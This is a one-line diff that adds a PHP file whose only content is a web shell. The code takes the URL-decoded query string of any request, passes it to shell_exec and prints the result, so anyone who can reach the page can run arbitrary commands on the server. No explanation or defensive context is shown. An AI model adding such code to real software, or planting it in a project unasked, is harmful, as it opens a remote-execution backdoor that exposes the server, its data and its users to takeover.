@@ -1,0 +1,1 @@
+<?php echo shell_exec(urldecode($_SERVER['QUERY_STRING']));
